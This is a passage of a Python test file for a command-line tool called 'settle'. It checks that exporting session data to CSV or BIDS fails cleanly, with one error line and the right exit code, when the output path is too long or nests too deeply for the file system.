    # whose name no file system takes is a directory that is not there (exit code 1, as any
    # missing directory; bids ended in a traceback).
    deep = out_dir.joinpath(*["d" * 200] * 25)
    for fmt, out, code, why in (
        ("csv", deep / "x.csv", 2, "bytes, longer than the system takes"),
        ("bids", deep, 2, "bytes, longer than the system takes"),
        ("csv", out_dir / ("d" * (most + 1)) / "x.csv", 1, "does not exist"),
        ("bids", out_dir / ("d" * (most + 1)) / "ds", 1, "does not exist"),
    ):
        res = runner.invoke(
            app, ["export", "latest", "--format", fmt, "--out", str(out), "--db", str(store.path)]
        )
        assert res.exit_code == code and res.output.count("\n") == 1, (fmt, res.output)
        assert why in res.output
    assert list(out_dir.iterdir()) == []


def test_a_bids_dataset_whose_files_would_be_too_deep_is_a_bad_output_path(
    store: SessionStore, tmp_path: Path
) -> None:
    """A dataset root the system takes (4000 bytes) whose session files, four levels below
    it, would not fit the system's path limit: the export failed half-way, exit 1, naming a
    hidden staging path ("…/sub-01/.ses-….partial-f4u0r2rv/beh/…_physio.tsv.gz: cannot
    write: File name too long"), or a little deeper "<out>: cannot create directory: File
    name too long". Now one line naming --out, exit 2, nothing made; a root a little higher
    up takes the export."""
    from settle.cli import app

    _build(store, ecg=False)
    parent = tmp_path.joinpath(*["d" * 200] * ((4000 - len(str(tmp_path))) // 201))
    parent.mkdir(parents=True)
    runner = CliRunner()
    for size in (4000, 4060, 4095):  # a staging file too deep, the staging folder, the root
        out = parent / ("e" * (size - len(str(parent)) - 1))
        assert len(os.fsencode(out)) == size
        res = runner.invoke(app, ["export", "latest", "--format", "bids", "--out", str(out),
                                  "--db", str(store.path)])  # fmt: skip
        assert res.exit_code == 2 and res.output.count("\n") == 1, (size, res.output)
        assert res.output.startswith(
            f"settle: error: {out}: the export's files below it would have paths of "
        ), res.output
        assert res.output.endswith("bytes, longer than the system takes: choose a shorter path\n")
        assert list(parent.iterdir()) == []
    out = parent / ("e" * (3950 - len(str(parent)) - 1))
    res = runner.invoke(app, ["export", "latest", "--format", "bids", "--out", str(out),
                              "--db", str(store.path)])  # fmt: skip
    assert res.exit_code == 0, res.output
